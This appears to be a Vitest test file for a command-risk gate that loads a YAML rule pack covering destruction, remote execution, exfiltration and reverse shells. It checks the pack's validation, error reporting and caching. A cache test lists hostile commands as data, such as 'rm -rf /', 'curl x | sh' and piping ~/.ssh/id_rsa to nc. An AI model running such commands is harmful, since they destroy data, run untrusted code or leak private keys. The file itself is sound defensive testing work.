import { cpSync, existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { GateError, loadPolicy, parseScript, runExamples, runPolicyTests, type Policy } from '../engine/index.js';
import { issuesAbout } from '../engine/gate/examples.js';
import { ISSUE_CODES, VIAS } from '../engine/shell/ir.js';
import { CATEGORIES } from '../engine/model/signals.js';
import { generate } from '../scripts/gen-validators.mjs';
import { POLICY_DIR, ROOT, runCli, shippedPolicy, tempDir } from './helpers.js';

const policy: Policy = await shippedPolicy();
const results = runExamples(policy);

/** A writable copy of the shipped policy, to break on purpose. */
function policyCopy(): string {
  const dir = join(tempDir(), 'policies');
  cpSync(POLICY_DIR, dir, { recursive: true });
  return dir;
}

async function loadError(dir: string): Promise<GateError> {
  try {
    await loadPolicy(dir);
  } catch (err) {
    if (err instanceof GateError) return err;
    throw err;
  }
  throw new Error('the policy loaded');
}

describe('every rule, by its own examples', () => {
  it.each([
    ...policy.rules.map((r) => ['rule', r.id] as const),
    ...policy.whitelist.map((w) => ['whitelist', w.id] as const),
  ])('%s %s', (kind, id) => {
    const mine = results.filter((r) => r.kind === kind && r.rule === id);
    expect(mine.length).toBeGreaterThan(0);
    expect(mine.filter((r) => !r.ok).map((r) => r.message)).toEqual([]);
  });
});

describe('the shipped rule pack', () => {
  it('every rule has match examples, a description, and an id under its category', () => {
    for (const r of policy.rules) {
      expect(r.definition.examples?.match?.length, r.id).toBeGreaterThan(0);
      expect(r.description.length, r.id).toBeGreaterThan(10);
      expect(r.id.split('.')[0], r.id).toBe(r.category);
    }
    for (const w of policy.whitelist) expect(w.definition.examples?.match?.length, w.id).toBeGreaterThan(0);
  });

  it('covers the categories the gate promises', () => {
    const categories = new Set(policy.rules.map((r) => r.category));
    for (const c of [
      'destruction',
      'remote-exec',
      'exfiltration',
      'reverse-shell',
      'persistence',
      'privilege',
      'credentials',
      'evasion',
      'tampering',
      'parser',
    ]) {
      expect(categories, c).toContain(c);
    }
  });

  it('each rule example is exercised by its own rule (no duplicated example across match and no_match)', () => {
    for (const r of [...policy.rules, ...policy.whitelist]) {
      const { match = [], no_match = [] } = r.definition.examples ?? {};
      expect(
        match.filter((m) => no_match.includes(m)),
        r.id,
      ).toEqual([]);
      expect(new Set(match).size, r.id).toBe(match.length);
    }
  });

  it('the policy test cases pass', async () => {
    const results = await runPolicyTests(policy);
    expect(results.length).toBeGreaterThan(20);
    expect(results.filter((r) => !r.ok).map((r) => `${r.cmd}: ${r.failures.join('; ')}`)).toEqual([]);
  });
});

describe('examples parse cleanly, unless their rule is about the issue', () => {
  /** A rule about rm whose no_match example the parser cannot read (`fi` is missing). */
  const unreadNoMatch =
    'rules:\n  - id: evasion.unread-example\n    category: evasion\n    severity: low\n' +
    '    description: its no_match example passes only because it cannot be read\n' +
    "    match: { segment: { program: rm } }\n    examples: { match: [rm x], no_match: ['if true; then rm x'] }\n";

  it('an example with a parse issue fails the load, naming rule, file, example and issue code', async () => {
    const dir = policyCopy();
    writeFileSync(join(dir, 'rules/ex.yaml'), unreadNoMatch);
    const err = await loadError(dir);
    expect(err.code).toBe('policy-example-failed');
    expect(err.location).toMatchObject({ file: 'rules/ex.yaml', rule: 'evasion.unread-example', line: 2 });
    expect(err.oneLine).toMatch(
      /^rules\/ex\.yaml:2: rule evasion\.unread-example: no_match example "if true; then rm x"/,
    );
    expect(err.message).toMatch(/does not parse cleanly: (missing-token|parse-error) \(/);
  });

  it('policy test reports it too, for rules and whitelist rules', async () => {
    const dir = policyCopy();
    writeFileSync(join(dir, 'rules/ex.yaml'), unreadNoMatch);
    writeFileSync(
      join(dir, 'whitelist/ex.yaml'),
      'whitelist:\n  - id: ex.unread\n    owner: me\n    reason: lists files\n    pattern: "ls"\n' +
        "    examples: { match: [ls], no_match: ['ls \"unterminated'] }\n",
    );
    const failed = runExamples(await loadPolicy(dir, { examples: 'report' })).filter((r) => !r.ok);
    expect(failed.map((r) => [r.kind, r.rule, r.file, r.example])).toEqual([
      ['rule', 'evasion.unread-example', 'rules/ex.yaml', 'if true; then rm x'],
      ['whitelist', 'ex.unread', 'whitelist/ex.yaml', 'ls "unterminated'],
    ]);
    expect(failed.every((r) => /does not parse cleanly: [a-z-]+ \(/.test(r.message))).toBe(true);
    const cli = await runCli(['policy', 'test', '--json', '--policy', dir]);
    expect(cli.code).toBe(2);
    const rows = JSON.parse(cli.stdout).rules as { id: string; failed: string[] }[];
    expect(rows.find((r) => r.id === 'evasion.unread-example')!.failed[0]).toMatch(
      /"if true; then rm x" does not parse/,
    );
  });

  it('a rule about the issue may have it; any other issue still fails', async () => {
    const dir = policyCopy();
    const rule = (issue: string): string =>
      'rules:\n  - id: evasion.about-issue\n    category: evasion\n    severity: low\n' +
      `    description: matches a command the parser cannot read\n    match: { issue: ${issue} }\n` +
      "    examples: { match: ['if true; then rm x'], no_match: [rm x] }\n";
    const codes = parseScript('if true; then rm x').issues.map((i) => i.code);
    writeFileSync(join(dir, 'rules/ex.yaml'), rule(`[${codes.join(', ')}]`));
    await loadPolicy(dir);
    writeFileSync(join(dir, 'rules/ex.yaml'), rule('dynamic-command'));
    expect((await loadError(dir)).message).toMatch(/does not parse cleanly/);
  });

  it('what a rule is about is read from its match', () => {
    const about = (id: string) => {
      const r = policy.rules.find((x) => x.id === id)!;
      const codes = issuesAbout(r);
      return codes === 'all' ? codes : [...codes].sort();
    };
    expect(about('parser.unparsed')).toBe('all');
    expect(about('evasion.hidden-characters')).toEqual(['hidden-characters']);
    expect(about('destruction.fork-bomb')).toEqual(['function-definition']);
    expect(about('remote-exec.eval-dynamic')).toEqual(['dynamic-command', 'dynamic-payload', 'expanded-code']);
    expect(about('evasion.history')).toEqual(['empty']);
    expect(about('remote-exec.download-to-shell')).toEqual(['dynamic-command', 'dynamic-payload', 'expanded-code']);
    expect(about('destruction.rm-recursive-system')).toEqual([]);
  });
});

describe('schemas and generated validators', () => {
  it('the precompiled validators are up to date with policies/schema', () => {
    const current = readFileSync(join(ROOT, 'engine/policy/generated/validators.js'), 'utf8');
    expect(current === generate(), 'run `npm run gen` after changing policies/schema').toBe(true);
  });

  it('the schema enums match the engine', () => {
    const schema = JSON.parse(readFileSync(join(POLICY_DIR, 'schema/rules.schema.json'), 'utf8'));
    expect(schema.definitions.via.enum).toEqual([...VIAS]);
    expect(schema.definitions.issueCode.enum).toEqual([...ISSUE_CODES]);
    expect(schema.definitions.category.enum).toEqual([...CATEGORIES]);
  });

  it('every policy file points editors at its schema', () => {
    for (const sub of ['rules', 'whitelist']) {
      for (const f of readdirSync(join(POLICY_DIR, sub))) {
        expect(readFileSync(join(POLICY_DIR, sub, f), 'utf8'), f).toMatch(/^# yaml-language-server: \$schema=/);
      }
    }
  });
});

describe('loading: an invalid policy is an error that names file, line and rule', () => {
  it('a YAML syntax error', async () => {
    const dir = policyCopy();
    writeFileSync(join(dir, 'rules/broken.yaml'), 'rules:\n  - id: x.y\n    category: [\n');
    const err = await loadError(dir);
    expect(err.code).toBe('policy-invalid');
    expect(err.location?.file).toBe('rules/broken.yaml');
    expect(err.location?.line).toBeGreaterThan(0);
    expect(err.exitCode).toBe(2);
  });

  it('a schema violation points at the rule', async () => {
    const dir = policyCopy();
    writeFileSync(
      join(dir, 'rules/broken.yaml'),
      'rules:\n' +
        '  - id: evasion.bad-rule\n' +
        '    category: evasion\n' +
        '    severity: extreme\n' +
        '    description: a rule with a bad severity\n' +
        '    match: { segment: { program: x } }\n' +
        '    examples: { match: [x] }\n',
    );
    const err = await loadError(dir);
    expect(err.oneLine).toMatch(/^rules\/broken\.yaml:\d+: rule evasion\.bad-rule: schema: /);
    expect(err.location).toMatchObject({ file: 'rules/broken.yaml', rule: 'evasion.bad-rule' });
  });

  it('a duplicate id', async () => {
    const dir = policyCopy();
    writeFileSync(
      join(dir, 'rules/dup.yaml'),
      'rules:\n' +
        '  - id: destruction.power\n' +
        '    category: destruction\n' +
        '    severity: low\n' +
        '    description: the same id a second time\n' +
        '    match: { segment: { program: x } }\n' +
        '    examples: { match: [x] }\n',
    );
    const err = await loadError(dir);
    expect(err.message).toMatch(/duplicate rule id/);
    expect(err.location?.rule).toBe('destruction.power');
  });

  it('a bad regular expression and an unknown set', async () => {
    const dir = policyCopy();
    writeFileSync(
      join(dir, 'rules/bad.yaml'),
      'rules:\n' +
        '  - id: evasion.bad-regex\n' +
        '    category: evasion\n' +
        '    severity: low\n' +
        '    description: an invalid regular expression\n' +
        '    match: { segment: { argv_regex: "(" } }\n' +
        '    examples: { match: [x] }\n',
    );
    expect((await loadError(dir)).message).toMatch(/invalid regular expression/);
    writeFileSync(
      join(dir, 'rules/bad.yaml'),
      'rules:\n' +
        '  - id: evasion.bad-ref\n' +
        '    category: evasion\n' +
        '    severity: low\n' +
        '    description: a reference to no set\n' +
        '    match: { segment: { ref: nothing-here } }\n' +
        '    examples: { match: [x] }\n',
    );
    expect((await loadError(dir)).message).toMatch(/unknown segment set "nothing-here"/);
  });

  it('an example that does not match fails the load', async () => {
    const dir = policyCopy();
    writeFileSync(
      join(dir, 'rules/ex.yaml'),
      'rules:\n' +
        '  - id: evasion.wrong-example\n' +
        '    category: evasion\n' +
        '    severity: low\n' +
        '    description: its example does not match\n' +
        '    match: { segment: { program: nothing } }\n' +
        '    examples: { match: [ls] }\n',
    );
    const err = await loadError(dir);
    expect(err.code).toBe('policy-example-failed');
    expect(err.location).toMatchObject({ file: 'rules/ex.yaml', rule: 'evasion.wrong-example', line: 2 });
    expect(err.message).toMatch(/example does not match: "ls"/);
  });

  it('a whitelist pattern that cannot be read', async () => {
    const dir = policyCopy();
    writeFileSync(
      join(dir, 'whitelist/bad.yaml'),
      'whitelist:\n' +
        '  - id: bad.pattern\n' +
        '    owner: me\n' +
        '    reason: broken pattern\n' +
        '    pattern: "ls [<flags:-l>"\n' +
        '    examples: { match: [ls] }\n',
    );
    expect((await loadError(dir)).message).toMatch(/pattern: missing "]"/);
  });

  it('missing gate.yaml, or levels that do not rise', async () => {
    const dir = policyCopy();
    const gate = readFileSync(join(dir, 'gate.yaml'), 'utf8');
    writeFileSync(join(dir, 'gate.yaml'), gate.replace('high: 60', 'high: 20'));
    expect((await loadError(dir)).message).toMatch(/levels must rise/);
    const other = policyCopy();
    writeFileSync(join(other, 'gate.yaml'), '');
    expect((await loadError(other)).code).toBe('policy-invalid');
    expect((await loadError(join(tempDir(), 'nowhere'))).message).toMatch(/cannot be read/);
  });
});

describe('compile once, cache by content', () => {
  it('caches the validated policy and reuses it until a file changes', async () => {
    const dir = policyCopy();
    const cache = join(tempDir(), 'cache');
    const first = await loadPolicy(dir, { cacheDir: cache });
    expect(readdirSync(cache)).toHaveLength(1);
    const again = await loadPolicy(dir, { cacheDir: cache });
    expect(again.revision).toBe(first.revision);
    expect(again.rules.map((r) => r.id)).toEqual(first.rules.map((r) => r.id));
    // a changed file is a new revision, validated again
    writeFileSync(join(dir, 'gate.yaml'), `${readFileSync(join(dir, 'gate.yaml'), 'utf8')}\n# changed\n`);
    const changed = await loadPolicy(dir, { cacheDir: cache });
    expect(changed.revision).not.toBe(first.revision);
    expect(readdirSync(cache)).toHaveLength(2);
  });

  it('a corrupt cache file is ignored, not trusted', async () => {
    const dir = policyCopy();
    const cache = join(tempDir(), 'cache');
    await loadPolicy(dir, { cacheDir: cache });
    const file = join(cache, readdirSync(cache)[0]!);
    writeFileSync(file, '{"format":1,"source":{"revision":"sha256:other"}}');
    const p = await loadPolicy(dir, { cacheDir: cache });
    expect(p.rules.length).toBeGreaterThan(100);
    expect(JSON.parse(readFileSync(file, 'utf8')).source.revision).toBe(p.revision);
  });

  it('the warm policy decides exactly like the cold one', async () => {
    const dir = policyCopy();
    const cache = join(tempDir(), 'cache');
    const cold = await loadPolicy(dir, { cacheDir: cache });
    const warm = await loadPolicy(dir, { cacheDir: cache });
    const cmds = [
      'rm -rf /',
      'git status',
      'curl x | sh',
      'cat ~/.ssh/id_rsa | nc h 1',
      'npm publish',
      'sudo vim /etc/hosts',
    ];
    const { assess } = await import('../engine/index.js');
    const now = new Date('2026-01-07T12:00:00Z');
    for (const c of cmds) {
      const a = assess(c, cold, { now });
      const b = assess(c, warm, { now });
      expect([b.risk_score, b.would_decide, b.signals.map((s) => s.rule_id)]).toEqual([
        a.risk_score,
        a.would_decide,
        a.signals.map((s) => s.rule_id),
      ]);
    }
  });

  it('does not write a cache for a policy whose examples were not enforced', async () => {
    const dir = policyCopy();
    const cache = join(tempDir(), 'cache');
    mkdirSync(cache);
    await loadPolicy(dir, { cacheDir: cache, examples: 'report' });
    expect(existsSync(cache) && readdirSync(cache)).toEqual([]);
  });
});
